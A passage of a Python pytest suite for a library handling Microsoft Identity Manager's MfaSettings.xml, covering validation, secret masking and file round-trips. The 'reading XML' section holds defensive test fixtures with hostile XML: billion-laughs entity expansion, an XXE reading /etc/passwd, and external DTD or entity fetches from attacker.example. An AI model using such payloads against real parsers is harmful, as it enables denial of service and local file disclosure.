"""Tests for MfaSettings: the model, its XML form, hostile input, and reading and writing files."""

from __future__ import annotations

import os
import pathlib
import stat
import string
import subprocess
import sys
from typing import Any

import attrs
import pytest
from defusedxml.ElementTree import fromstring
from hypothesis import given
from hypothesis import strategies as st

from pyampam.exceptions import SettingsError
from pyampam.settings import (
    MfaMode,
    MfaSettings,
    SdkCredentials,
    read_mfa_settings,
    write_mfa_settings,
)
from pyampam.settings._mfa_settings import XmlElement

LICENSE = "ABCDEF123456"
GROUP = "0123456789abcdef0123456789abcdef"
PASSWORD = "QWERTY1234567890"
CERT = r"C:\Program Files\Microsoft Forefront Identity Manager\2010\Service\MfaCerts\cert_key.p12"
SERVER = "https://mfa.corp.example/MultiFactorAuthWebServiceSdk/PfWsSdk.asmx"
DLL = r"C:\Program Files\Contoso\PhoneProvider.dll"
SDK_ELEMENTS = (
    "LICENSE_KEY",
    "GROUP_KEY",
    "CERT_PASSWORD",
    "CertFilePath",
    "Username",
    "DefaultCountryCode",
)

# As MIM ships it: every element there, every element empty.
SHIPPED = b"""<?xml version="1.0" encoding="utf-8"?>
<MfaSettings>
  <LICENSE_KEY></LICENSE_KEY>
  <GROUP_KEY></GROUP_KEY>
  <CERT_PASSWORD></CERT_PASSWORD>
  <CertFilePath></CertFilePath>
  <username></username>
  <DefaultCountryCode></DefaultCountryCode>
  <LOCMFA></LOCMFA>
  <LOCMFASRV></LOCMFASRV>
  <CustomPhoneProvider></CustomPhoneProvider>
</MfaSettings>
"""


def credentials() -> SdkCredentials:
    return SdkCredentials(LICENSE, GROUP, PASSWORD)


def sdk_settings(**changes: Any) -> MfaSettings:
    settings = MfaSettings.for_sdk(
        credentials(), cert_file_path=CERT, username="pam", default_country_code=1
    )
    return attrs.evolve(settings, **changes)


def child_tags(xml: bytes) -> list[str]:
    return [child.tag for child in fromstring(xml)]


def child_texts(xml: bytes) -> dict[str, str]:
    return {child.tag: child.text or "" for child in fromstring(xml)}


def document(body: str) -> bytes:
    return (
        f'<?xml version="1.0" encoding="utf-8"?>\n<MfaSettings>\n{body}\n</MfaSettings>\n'.encode()
    )


# -- named constructors, modes and switches ------------------------------------------------------


def test_for_sdk_writes_the_six_sdk_elements_in_order() -> None:
    """SDK settings write the four SDK elements, Username and DefaultCountryCode, nothing else."""
    xml = sdk_settings().to_xml()

    assert child_tags(xml) == list(SDK_ELEMENTS)
    assert child_texts(xml) == {
        "LICENSE_KEY": LICENSE,
        "GROUP_KEY": GROUP,
        "CERT_PASSWORD": PASSWORD,
        "CertFilePath": CERT,
        "Username": "pam",
        "DefaultCountryCode": "1",
    }


def test_for_mfa_server_writes_sdk_elements_empty_and_locmfa_true() -> None:
    """MFA Server settings keep the SDK elements present but empty and set LOCMFA to true."""
    settings = MfaSettings.for_mfa_server(username="svc-mim@corp.example", server_url=SERVER)

    xml = settings.to_xml()

    assert settings.mode is MfaMode.MFA_SERVER
    assert settings.locmfa is True
    assert child_tags(xml) == [*SDK_ELEMENTS[:5], "LOCMFA", "LOCMFASRV"]
    texts = child_texts(xml)
    assert [texts[e] for e in SDK_ELEMENTS[:4]] == ["", "", "", ""]
    assert (texts["Username"], texts["LOCMFA"], texts["LOCMFASRV"]) == (
        "svc-mim@corp.example",
        "true",
        SERVER,
    )


def test_for_custom_provider_writes_only_the_provider() -> None:
    """Custom provider settings write CustomPhoneProvider alone."""
    xml = MfaSettings.for_custom_provider(DLL).to_xml()

    assert child_texts(xml) == {"CustomPhoneProvider": DLL}


def test_switch_to_mfa_server_clears_sdk_elements_only() -> None:
    """Switching to MFA Server empties the four SDK elements and keeps the rest."""
    unknown = XmlElement("Comment", "kept")
    settings = sdk_settings(unknown_elements=[unknown])

    switched = settings.switch_to_mfa_server(username="svc@corp.example", server_url=SERVER)

    assert (switched.license_key, switched.group_key, switched.cert_password) == ("", "", "")
    assert switched.cert_file_path == ""
    assert (switched.username, switched.locmfa, switched.locmfasrv) == (
        "svc@corp.example",
        True,
        SERVER,
    )
    assert switched.default_country_code == 1
    assert switched.unknown_elements == (unknown,)
    assert settings.mode is MfaMode.SDK  # the original is unchanged


def test_switch_to_custom_provider_clears_everything_else() -> None:
    """Switching to a custom provider clears every other entry but keeps unknown elements."""
    unknown = XmlElement("Comment", "kept")
    settings = MfaSettings.for_mfa_server(username="svc", server_url=SERVER)
    settings = attrs.evolve(settings, default_country_code=44, unknown_elements=[unknown])

    switched = settings.switch_to_custom_provider(DLL)

    assert switched == MfaSettings(
        mode=MfaMode.CUSTOM_PROVIDER, custom_phone_provider=DLL, unknown_elements=[unknown]
    )
    assert switched.unused_elements() == ()


def test_switch_back_to_sdk_clears_server_and_provider() -> None:
    """Switching to the SDK clears LOCMFA, LOCMFASRV and CustomPhoneProvider."""
    settings = MfaSettings.for_mfa_server(username="svc", server_url=SERVER)

    switched = settings.switch_to_sdk(
        credentials(), cert_file_path=CERT, username="pam", default_country_code=1
    )

    assert switched == sdk_settings()


@pytest.mark.parametrize(
    "url", ["", "mfa.corp.example/PfWsSdk.asmx", "ftp://admin:hunter2@mfa/PfWsSdk.asmx"]
)
def test_mfa_server_url_must_be_http(url: str) -> None:
    """LOCMFASRV must be an http(s) URL; a refused URL is not echoed (it may hold a password)."""
    with pytest.raises(SettingsError, match="LOCMFASRV") as caught:
        MfaSettings.for_mfa_server(username="svc", server_url=url)

    assert "hunter2" not in str(caught.value)


@pytest.mark.parametrize(
    ("call", "element"),
    [
        (lambda: MfaSettings.for_mfa_server(username=" ", server_url=SERVER), "Username"),
        (lambda: MfaSettings.for_custom_provider(""), "CustomPhoneProvider"),
        (
            lambda: MfaSettings.for_sdk(
                credentials(), cert_file_path="", username="pam", default_country_code=1
            ),
            "CertFilePath",
        ),
        (
            lambda: MfaSettings.for_sdk(
                credentials(), cert_file_path=CERT, username="", default_country_code=1
            ),
            "Username",
        ),
    ],
)
def test_named_constructors_refuse_empty_required_values(call: object, element: str) -> None:
    """Named constructors refuse an empty value the mode needs, naming its element."""
    with pytest.raises(SettingsError, match=element) as caught:
        call()  # type: ignore[operator]

    assert caught.value.key == element


def test_mode_must_agree_with_locmfa_and_provider() -> None:
    """LOCMFA and CustomPhoneProvider must say the same as the mode, as MIM would infer it."""
    with pytest.raises(SettingsError, match="LOCMFA"):
        MfaSettings(mode=MfaMode.SDK, locmfa=True)
    with pytest.raises(SettingsError, match="LOCMFA"):
        MfaSettings(mode=MfaMode.MFA_SERVER, locmfa=False)
    with pytest.raises(SettingsError, match="CustomPhoneProvider"):
        MfaSettings(mode=MfaMode.SDK, custom_phone_provider=DLL)
    with pytest.raises(SettingsError, match="CustomPhoneProvider"):
        MfaSettings(mode=MfaMode.CUSTOM_PROVIDER)
    assert MfaSettings(mode=MfaMode.MFA_SERVER).locmfa is True


def test_mode_must_be_an_mfa_mode() -> None:
    """A string instead of an MfaMode is refused."""
    with pytest.raises(SettingsError, match="MfaMode"):
        MfaSettings(mode="sdk")  # type: ignore[arg-type]


# -- missing and unused elements, credentials -----------------------------------------------------


@pytest.mark.parametrize(
    ("settings", "missing"),
    [
        (MfaSettings(mode=MfaMode.SDK), SDK_ELEMENTS),
        (
            MfaSettings(mode=MfaMode.SDK, license_key=LICENSE, username=" "),
            (*SDK_ELEMENTS[1:4], "Username", "DefaultCountryCode"),
        ),
        (MfaSettings(mode=MfaMode.MFA_SERVER), ("Username", "LOCMFASRV")),
        (MfaSettings(mode=MfaMode.MFA_SERVER, username="svc"), ("LOCMFASRV",)),
        (MfaSettings.for_custom_provider(DLL), ()),
    ],
)
def test_missing_elements_per_mode(settings: MfaSettings, missing: tuple[str, ...]) -> None:
    """missing_elements names, in MIM's spelling, what the mode needs and is empty."""
    assert settings.missing_elements() == missing


def test_complete_sdk_settings_miss_nothing() -> None:
    """Complete SDK settings report nothing missing or unused."""
    settings = sdk_settings()

    assert settings.missing_elements() == ()
    assert settings.unused_elements() == ()


def test_credentials_come_back_as_sdk_credentials() -> None:
    """The credentials property returns the three SDK values."""
    assert sdk_settings().credentials == credentials()


def test_incomplete_credentials_name_the_empty_element() -> None:
    """Asking for incomplete credentials names the empty element and hides the others."""
    settings = sdk_settings(group_key="")

    with pytest.raises(SettingsError, match="GROUP_KEY") as caught:
        _ = settings.credentials

    assert caught.value.key == "GROUP_KEY"
    assert LICENSE not in str(caught.value)
    assert PASSWORD not in str(caught.value)


# -- validation of values ------------------------------------------------------------------------


@pytest.mark.parametrize("code", [1, 44, 999])
def test_country_code_accepts_one_to_three_digits(code: int) -> None:
    """DefaultCountryCode takes 1 to 999."""
    assert sdk_settings(default_country_code=code).default_country_code == code


@pytest.mark.parametrize("code", [0, -1, 1000, True, "1", 1.0])
def test_country_code_refuses_other_values(code: object) -> None:
    """DefaultCountryCode refuses zero, negatives, four digits, bools, strings and floats."""
    with pytest.raises(SettingsError, match="DefaultCountryCode") as caught:
        sdk_settings(default_country_code=code)

    assert caught.value.key == "DefaultCountryCode"


def test_cert_file_path_is_kept_exactly_and_unquoted() -> None:
    """A Windows path with spaces and backslashes is written as given, without quotes."""
    xml = sdk_settings().to_xml()

    assert f"<CertFilePath>{CERT}</CertFilePath>".encode() in xml
    assert MfaSettings.from_xml(xml).cert_file_path == CERT


def test_quoted_cert_file_path_is_refused() -> None:
    """A quoted CertFilePath is refused, explaining MIM's error and how to fix it."""
    with pytest.raises(SettingsError) as caught:
        sdk_settings(cert_file_path=f'"{CERT}"')

    message = str(caught.value)
    assert "Illegal characters in path" in message
    assert "remove the quotes" in message
    assert CERT in message
    assert caught.value.key == "CertFilePath"


def test_quoted_cert_file_path_in_file_is_refused_with_line() -> None:
    """Reading a quoted CertFilePath names the file and the line."""
    xml = document(f'  <LICENSE_KEY/>\n  <CertFilePath>"{CERT}"</CertFilePath>')

    with pytest.raises(SettingsError, match="remove the quotes") as caught:
        MfaSettings.from_xml(xml, path="MfaSettings.xml")

    assert (caught.value.path, caught.value.line) == ("MfaSettings.xml", 4)
    assert str(caught.value).startswith("MfaSettings.xml:4: CertFilePath")


def test_quote_inside_a_path_is_refused() -> None:
    """A double quote anywhere in a path is refused: Windows paths cannot hold one."""
    with pytest.raises(SettingsError, match="double quote"):
        MfaSettings.for_custom_provider('C:\\a"b.dll')


@pytest.mark.parametrize("char", ["\x00", "\t", "\n", "\r", "\x1b", "\x7f", "\x85", "\ufffe"])
@pytest.mark.parametrize("field", ["license_key", "username", "cert_file_path", "locmfasrv"])
def test_control_characters_are_refused(field: str, char: str) -> None:
    """Control characters and non-XML characters are refused, without echoing the value."""
    value = f"SECRET{char}VALUE"

    with pytest.raises(SettingsError, match=f"U\\+{ord(char):04X}") as caught:
        MfaSettings(mode=MfaMode.SDK, **{field: value})  # type: ignore[arg-type]

    assert "SECRET" not in str(caught.value)


def test_unknown_element_cannot_shadow_a_known_one() -> None:
    """An unknown element named like a known one (either Username spelling) is refused."""
    for tag in ("LICENSE_KEY", "username", "Username"):
        with pytest.raises(SettingsError, match="known element"):
            MfaSettings(mode=MfaMode.SDK, unknown_elements=[XmlElement(tag)])


@pytest.mark.parametrize("tag", ["", "1abc", "a b", "a:b", "<x>", "{}x", "{urn:x\x00}a", "xmlns"])
def test_invalid_xml_names_are_refused(tag: str) -> None:
    """Element and attribute names must be valid XML names (ElementTree would not check)."""
    with pytest.raises(SettingsError, match=r"XML name|U\+0000"):
        XmlElement(tag)
    with pytest.raises(SettingsError, match=r"XML name|U\+0000"):
        XmlElement("ok", attributes={tag: "v"})


def test_unknown_element_text_normalises_carriage_returns() -> None:
    """CR and CR LF in unknown text become LF, as any XML reader would make them."""
    assert XmlElement("Note", "a\r\nb\rc").text == "a\nb\nc"


def test_unknown_element_refuses_whitespace_text_around_children() -> None:
    """Whitespace-only text next to child elements is refused: readers take it for indentation."""
    with pytest.raises(SettingsError, match="whitespace"):
        XmlElement("Outer", " \n ", children=[XmlElement("Inner")])


# -- secrets -------------------------------------------------------------------------------------


def test_repr_and_str_mask_secrets() -> None:
    """repr() and str() show the secrets as a mask, and the other values plainly."""
    settings = sdk_settings()

    for shown in (repr(settings), str(settings)):
        assert LICENSE not in shown
        assert GROUP not in shown
        assert PASSWORD not in shown
        assert "license_key='********'" in shown
        assert "cert_file_path=" in shown
        assert "username='pam'" in shown


def test_unknown_element_text_is_masked_in_repr() -> None:
    """A misspelled <license_key> holding a secret does not show it in any repr."""
    settings = MfaSettings.from_xml(document(f"<license_key>{LICENSE}</license_key>"))

    assert LICENSE not in repr(settings)
    assert LICENSE not in repr(settings.unknown_elements)
    assert "license_key" in repr(settings)


# -- reading XML ---------------------------------------------------------------------------------


def test_reads_the_file_as_mim_ships_it() -> None:
    """The empty file MIM ships reads as SDK settings with every SDK element missing."""
    settings = MfaSettings.from_xml(SHIPPED)

    assert settings == MfaSettings(mode=MfaMode.SDK)
    assert settings.missing_elements() == SDK_ELEMENTS


def test_reads_an_empty_root() -> None:
    """A root without children reads as empty SDK settings."""
    assert MfaSettings.from_xml(b"<MfaSettings/>") == MfaSettings(mode=MfaMode.SDK)


def test_reads_str_input() -> None:
    """Text input (str) is accepted as well as bytes."""
    assert MfaSettings.from_xml(sdk_settings().to_xml().decode()) == sdk_settings()


def test_reads_utf16_as_saved_by_notepad() -> None:
    """A UTF-16 file with a byte order mark (Notepad's "Unicode") reads correctly."""
    text = (
        '<?xml version="1.0" encoding="utf-16"?>\n'
        "<MfaSettings><Username>jürgen</Username></MfaSettings>"
    )

    settings = MfaSettings.from_xml(text.encode("utf-16"))

    assert settings.username == "jürgen"


@pytest.mark.parametrize("tag", ["username", "Username"])
def test_reads_either_username_spelling_and_writes_capitalised(tag: str) -> None:
    """Both <username> and <Username> are read; <Username> is written."""
    settings = MfaSettings.from_xml(document(f"<{tag}>pam</{tag}>"))

    assert settings.username == "pam"
    assert b"<Username>pam</Username>" in settings.to_xml()
    assert b"<username>" not in settings.to_xml()


def test_both_username_spellings_with_same_value_are_accepted() -> None:
    """<Username> and <username> together are fine when they agree."""
    settings = MfaSettings.from_xml(document("<Username>pam</Username><username>pam</username>"))

    assert settings.username == "pam"


def test_both_username_spellings_with_different_values_are_refused() -> None:
    """<Username> and <username> with different values are refused, with the line."""
    xml = document("  <Username>pam</Username>\n  <username>other</username>")

    with pytest.raises(SettingsError, match="Username") as caught:
        MfaSettings.from_xml(xml, path="MfaSettings.xml")

    assert caught.value.line == 4
    assert caught.value.path == "MfaSettings.xml"


def test_element_names_are_case_sensitive() -> None:
    """<license_key> is not LICENSE_KEY: it is kept as an unknown element."""
    settings = MfaSettings.from_xml(document(f"<license_key>{LICENSE}</license_key>"))

    assert settings.license_key == ""
    assert "LICENSE_KEY" in settings.missing_elements()
    assert settings.unknown_elements == (XmlElement("license_key", LICENSE),)


@pytest.mark.parametrize(
    ("body", "mode"),
    [
        ("<LOCMFA>true</LOCMFA>", MfaMode.MFA_SERVER),
        ("<LOCMFA> True </LOCMFA>", MfaMode.MFA_SERVER),
        ("<LOCMFA>false</LOCMFA><LICENSE_KEY>x</LICENSE_KEY>", MfaMode.SDK),
        (
            "<LOCMFA>true</LOCMFA><CustomPhoneProvider>C:\\p.dll</CustomPhoneProvider>",
            MfaMode.CUSTOM_PROVIDER,
        ),
        ("<CustomPhoneProvider>  </CustomPhoneProvider>", MfaMode.SDK),
        ("<LOCMFASRV>https://old</LOCMFASRV>", MfaMode.SDK),
    ],
)
def test_mode_is_detected_from_content(body: str, mode: MfaMode) -> None:
    """CustomPhoneProvider wins, then LOCMFA true means MFA Server, else the SDK."""
    assert MfaSettings.from_xml(document(body)).mode is mode


def test_leftovers_of_another_mode_are_kept_and_reported() -> None:
    """A half switched file keeps its leftover values, reports them unused and writes them back."""
    xml = document(
        f"<LICENSE_KEY>{LICENSE}</LICENSE_KEY><Username>svc</Username>"
        f"<LOCMFA>true</LOCMFA><LOCMFASRV>{SERVER}</LOCMFASRV>"
    )

    settings = MfaSettings.from_xml(xml)

    assert settings.mode is MfaMode.MFA_SERVER
    assert settings.unused_elements() == ("LICENSE_KEY",)
    assert MfaSettings.from_xml(settings.to_xml()) == settings


def test_invalid_locmfa_is_refused_with_line() -> None:
    """LOCMFA must be true or false; anything else names the element and line."""
    with pytest.raises(SettingsError, match="LOCMFA") as caught:
        MfaSettings.from_xml(document("\n<LOCMFA>yes</LOCMFA>"))

    assert caught.value.line == 4


@pytest.mark.parametrize("value", ["+1", "1a", "0", "000", "1234", "1 2", "\u0661", "\u00b2"])
def test_non_digit_country_code_is_refused_with_line(value: str) -> None:
    """DefaultCountryCode must be 1-3 ASCII digits above zero; errors name element and line."""
    xml = document(
        f"  <Username>pam</Username>\n  <DefaultCountryCode>{value}</DefaultCountryCode>"
    )

    with pytest.raises(SettingsError, match="DefaultCountryCode") as caught:
        MfaSettings.from_xml(xml, path="MfaSettings.xml")

    assert caught.value.line == 4
    assert caught.value.key == "DefaultCountryCode"


def test_country_code_may_have_surrounding_spaces() -> None:
    """Surrounding white space in DefaultCountryCode is ignored, as .NET does."""
    settings = MfaSettings.from_xml(document("<DefaultCountryCode> 44 </DefaultCountryCode>"))

    assert settings.default_country_code == 44


def test_duplicate_element_is_refused_with_line() -> None:
    """An element given twice is refused, naming both lines."""
    xml = document(f"  <GROUP_KEY>{GROUP}</GROUP_KEY>\n  <GROUP_KEY>{LICENSE}</GROUP_KEY>")

    with pytest.raises(SettingsError, match="twice \\(first on line 3\\)") as caught:
        MfaSettings.from_xml(xml)

    assert caught.value.line == 4
    assert GROUP not in str(caught.value)
    assert LICENSE not in str(caught.value)


def test_known_element_with_children_is_refused() -> None:
    """A known element must hold only text."""
    with pytest.raises(SettingsError, match="text only"):
        MfaSettings.from_xml(document("<Username><first>pam</first></Username>"))


def test_unknown_elements_survive_a_rewrite() -> None:
    """Unknown elements, with attributes, children and namespaces, are written back."""
    xml = document(
        '<Future enabled="yes"><Item n="1">a &amp; b</Item><Item/></Future>'
        '<x:Extra xmlns:x="urn:example">text</x:Extra>'
    )

    settings = MfaSettings.from_xml(xml)
    rewritten = MfaSettings.from_xml(settings.to_xml())

    assert settings.unknown_elements == (
        XmlElement(
            "Future",
            attributes={"enabled": "yes"},
            children=[XmlElement("Item", "a & b", {"n": "1"}), XmlElement("Item")],
        ),
        XmlElement("{urn:example}Extra", "text"),
    )
    assert rewritten == settings


def test_deeply_nested_unknown_element_is_refused() -> None:
    """Unknown elements nested absurdly deep are refused instead of exhausting the stack."""
    depth = 5000
    xml = document("<a>" * depth + "</a>" * depth)

    with pytest.raises(SettingsError, match="nested"):
        MfaSettings.from_xml(xml)


def test_wrong_root_is_refused() -> None:
    """A root other than <MfaSettings> is refused."""
    with pytest.raises(SettingsError, match="root element is <configuration>"):
        MfaSettings.from_xml(b"<configuration><LICENSE_KEY/></configuration>")


@pytest.mark.parametrize(
    ("xml", "line"),
    [
        (b"<MfaSettings>\n  <LICENSE_KEY>\n  </GROUP_KEY>\n</MfaSettings>", 3),
        (b"<MfaSettings>\n\n  <Username>a & b</Username>\n</MfaSettings>", 3),
        (b"<MfaSettings>\n  <Username>&nbsp;</Username>\n</MfaSettings>", 2),
        (b"<MfaSettings>\n  <Username>&#1;</Username>\n</MfaSettings>", 2),
        (b"<MfaSettings>\n  <Username>pam</Username>\n", 3),
        (b"", 1),
    ],
    ids=[
        "mismatched-tag",
        "bare-ampersand",
        "undefined-entity",
        "bad-char-ref",
        "unclosed",
        "empty",
    ],
)
def test_malformed_xml_is_refused_with_the_parsers_line(xml: bytes, line: int) -> None:
    """Malformed XML becomes a SettingsError carrying the parser's line and the path."""
    with pytest.raises(SettingsError, match="not well-formed XML") as caught:
        MfaSettings.from_xml(xml, path="MfaSettings.xml")

    assert caught.value.line == line
    assert str(caught.value).startswith(f"MfaSettings.xml:{line}: ")
    assert isinstance(caught.value.__cause__, SyntaxError)


BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE MfaSettings [
  <!ENTITY lol "lol">
  <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<MfaSettings><Username>&lol9;</Username></MfaSettings>
"""
EXTERNAL_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE MfaSettings [<!ENTITY passwd SYSTEM "file:///etc/passwd">]>
<MfaSettings><Username>&passwd;</Username></MfaSettings>
"""
EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE MfaSettings SYSTEM "http://attacker.example/mfa.dtd">
<MfaSettings><Username>pam</Username></MfaSettings>
"""
PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE MfaSettings [<!ENTITY % remote SYSTEM "http://attacker.example/x.dtd"> %remote;]>
<MfaSettings/>
"""


@pytest.mark.parametrize(
    "xml",
    [BILLION_LAUGHS, EXTERNAL_ENTITY, EXTERNAL_DTD, PARAMETER_ENTITY],
    ids=["billion-laughs", "external-entity", "external-dtd", "parameter-entity"],
)
def test_hostile_xml_is_refused(xml: bytes) -> None:
    """DTDs, entity declarations and external references are refused before any expansion."""
    with pytest.raises(SettingsError, match="DOCTYPE") as caught:
        MfaSettings.from_xml(xml, path="MfaSettings.xml")

    assert caught.value.line == 2
    assert "root:" not in str(caught.value)
    assert "lollol" not in str(caught.value)


def test_importing_settings_does_not_import_defusedxml() -> None:
    """defusedxml is loaded only when XML is parsed, so importing the package stays cheap."""
    code = (
        "import sys, pyampam.settings\n"
        "settings = pyampam.settings.MfaSettings.for_custom_provider('C:/p.dll')\n"
        "settings.to_xml()\n"
        "print('defusedxml' in sys.modules)\n"
    )

    result = subprocess.run(
        [sys.executable, "-c", code], capture_output=True, text=True, check=True
    )

    assert result.stdout.strip() == "False"


# -- writing XML ---------------------------------------------------------------------------------


def test_xml_has_declaration_and_indentation() -> None:
    """to_xml writes UTF-8 with an XML declaration and one element per indented line."""
    xml = sdk_settings().to_xml()
    lines = xml.decode("utf-8").splitlines()

    assert lines[0] in (
        "<?xml version='1.0' encoding='utf-8'?>",
        '<?xml version="1.0" encoding="utf-8"?>',
    )
    assert lines[1] == "<MfaSettings>"
    assert lines[2] == f"  <LICENSE_KEY>{LICENSE}</LICENSE_KEY>"
    assert lines[-1] == "</MfaSettings>"


def test_empty_elements_are_written_open_and_closed() -> None:
    """Empty elements are written as <X></X>, the way MIM's own file looks."""
    xml = MfaSettings(mode=MfaMode.SDK).to_xml()

    assert b"<LICENSE_KEY></LICENSE_KEY>" in xml
    assert b"<DefaultCountryCode></DefaultCountryCode>" in xml


def test_special_characters_are_escaped() -> None:
    """XML-special characters and non-ASCII text are escaped or encoded correctly."""
    username = "a<b>&c\"d'e ]]> é 中 😀"
    xml = sdk_settings(username=username).to_xml()

    assert b"&lt;b&gt;&amp;c" in xml
    assert "é 中 😀".encode() in xml
    assert child_texts(xml)["Username"] == username


# -- files ---------------------------------------------------------------------------------------


def test_write_then_read_round_trips(tmp_path: pathlib.Path) -> None:
    """Written settings read back equal, and the first write has no backup."""
    path = tmp_path / "MfaSettings.xml"
    settings = sdk_settings(unknown_elements=[XmlElement("Future", "x")])

    assert write_mfa_settings(settings, path) is None
    assert read_mfa_settings(path) == settings
    assert read_mfa_settings(str(path)) == settings


@pytest.mark.skipif(os.name != "posix", reason="mode bits exist on POSIX only")
def test_written_file_and_backup_are_owner_only(tmp_path: pathlib.Path) -> None:
    """The settings file and the backup of the one it replaced are 0600."""
    path = tmp_path / "MfaSettings.xml"
    path.write_bytes(SHIPPED)
    path.chmod(0o644)

    backup = write_mfa_settings(sdk_settings(), path)

    assert backup is not None
    assert backup.read_bytes() == SHIPPED
    assert stat.S_IMODE(path.stat().st_mode) == 0o600
    assert stat.S_IMODE(backup.stat().st_mode) == 0o600


def test_write_without_backup(tmp_path: pathlib.Path) -> None:
    """backup=False replaces the file and keeps no copy."""
    path = tmp_path / "MfaSettings.xml"
    path.write_bytes(SHIPPED)

    assert write_mfa_settings(sdk_settings(), path, backup=False) is None
    assert [p.name for p in tmp_path.iterdir()] == ["MfaSettings.xml"]


def test_incomplete_settings_are_not_written(tmp_path: pathlib.Path) -> None:
    """Settings missing elements their mode needs are refused, naming them; no file appears."""
    path = tmp_path / "MfaSettings.xml"
    settings = sdk_settings(cert_password="", default_country_code=None)

    with pytest.raises(SettingsError, match="CERT_PASSWORD and DefaultCountryCode are") as caught:
        write_mfa_settings(settings, path)

    assert caught.value.key == "CERT_PASSWORD"
    assert caught.value.path == str(path)
    assert LICENSE not in str(caught.value)
    assert not path.exists()


def test_incomplete_settings_hint_at_case_mistakes(tmp_path: pathlib.Path) -> None:
    """A missing element present in another case is pointed out: XML is case sensitive."""
    settings = MfaSettings.from_xml(
        document(f"<LICENSE_KEY>{LICENSE}</LICENSE_KEY><Group_Key>{GROUP}</Group_Key>")
    )

    with pytest.raises(SettingsError, match="<Group_Key> is not <GROUP_KEY>") as caught:
        write_mfa_settings(settings, tmp_path / "MfaSettings.xml")

    assert GROUP not in str(caught.value)


def test_read_missing_file_is_a_settings_error(tmp_path: pathlib.Path) -> None:
    """A missing file is reported as a SettingsError with its path."""
    path = tmp_path / "MfaSettings.xml"

    with pytest.raises(SettingsError, match="does not exist") as caught:
        read_mfa_settings(path)

    assert caught.value.path == str(path)


def test_read_errors_carry_the_path(tmp_path: pathlib.Path) -> None:
    """Errors in a read file start with path:line."""
    path = tmp_path / "MfaSettings.xml"
    path.write_bytes(document("<LOCMFA>maybe</LOCMFA>"))

    with pytest.raises(SettingsError) as caught:
        read_mfa_settings(path)

    assert str(caught.value).startswith(f"{path}:3: LOCMFA")


# -- properties ----------------------------------------------------------------------------------

_NOT_IN_XML = "".join(chr(i) for i in range(32) if chr(i) not in "\t\n\r") + "\ufffe\uffff"
# Values of known elements: anything XML 1.0 carries, except control characters.
known_text = st.one_of(
    st.text(st.characters(exclude_categories=["Cc", "Cs"], exclude_characters="\ufffe\uffff")),
    st.sampled_from(["<&>\"'", "]]>", "&amp;", " padded ", "é中😀", "a\u2028b", CERT]),
)
path_text = known_text.filter(lambda text: '"' not in text)
# Text of unknown elements: tab, CR and LF too (CR is normalised), and C1 controls.
element_text = st.text(st.characters(exclude_categories=["Cs"], exclude_characters=_NOT_IN_XML))
_START = string.ascii_letters + "_éßΩ名"
local_names = st.builds(
    lambda first, rest: first + rest,
    st.sampled_from(_START),
    st.text(st.sampled_from(_START + string.digits + "-."), max_size=6),
)
namespaces = st.sampled_from(["", "{urn:example:mim}", "{http://example.com/?a=1&b=2}"])
names = st.builds(lambda ns, local: ns + local, namespaces, local_names).filter(
    lambda name: (
        name
        not in (
            "LICENSE_KEY",
            "GROUP_KEY",
            "CERT_PASSWORD",
            "CertFilePath",
            "Username",
            "username",
            "DefaultCountryCode",
            "LOCMFA",
            "LOCMFASRV",
            "CustomPhoneProvider",
            "xmlns",
        )
    )
)
attributes = st.dictionaries(names, element_text, max_size=3)
leaves = st.builds(XmlElement, tag=names, text=element_text, attributes=attributes)
xml_elements = st.recursive(
    leaves,
    lambda inner: st.builds(
        XmlElement,
        tag=names,
        text=st.one_of(st.just(""), element_text.filter(str.strip)),
        attributes=attributes,
        children=st.lists(inner, min_size=1, max_size=3),
    ),
    max_leaves=6,
)


@st.composite
def mfa_settings(draw: st.DrawFn, secret: st.SearchStrategy[str] = known_text) -> MfaSettings:
    """Any valid settings, in any mode, leftovers and unknown elements included."""
    mode = draw(st.sampled_from(MfaMode))
    if mode is MfaMode.CUSTOM_PROVIDER:
        provider, locmfa = draw(path_text.filter(str.strip)), draw(st.booleans())
    else:
        provider, locmfa = "", mode is MfaMode.MFA_SERVER
    return MfaSettings(
        mode=mode,
        license_key=draw(secret),
        group_key=draw(secret),
        cert_password=draw(secret),
        cert_file_path=draw(path_text),
        username=draw(known_text),
        default_country_code=draw(st.none() | st.integers(1, 999)),
        locmfa=locmfa,
        locmfasrv=draw(known_text),
        custom_phone_provider=provider,
        unknown_elements=draw(st.lists(xml_elements, max_size=3)),
    )


@given(mfa_settings())
def test_xml_round_trip(settings: MfaSettings) -> None:
    """from_xml(to_xml(s)) == s for any settings, awkward characters included."""
    assert MfaSettings.from_xml(settings.to_xml()) == settings


@given(
    st.lists(
        st.text(string.ascii_uppercase + string.digits, min_size=10, max_size=16),
        min_size=3,
        max_size=3,
        unique=True,
    ),
    st.text(string.ascii_lowercase, max_size=10),
)
def test_random_secrets_never_show(secrets: list[str], other: str) -> None:
    """Secrets appear in no repr, str or error message, even when misspelled as unknown elements."""
    license_key, group_key, cert_password = secrets
    settings = MfaSettings(
        mode=MfaMode.SDK,
        license_key=license_key,
        group_key=group_key,
        cert_password=cert_password,
        username=other,
        unknown_elements=[XmlElement("license_key", license_key)],
    )
    missing_password = attrs.evolve(settings, cert_password="")
    shown = [repr(settings), str(settings), repr(settings.unknown_elements)]
    with pytest.raises(SettingsError) as credentials_error:
        _ = missing_password.credentials
    with pytest.raises(SettingsError) as write_error:
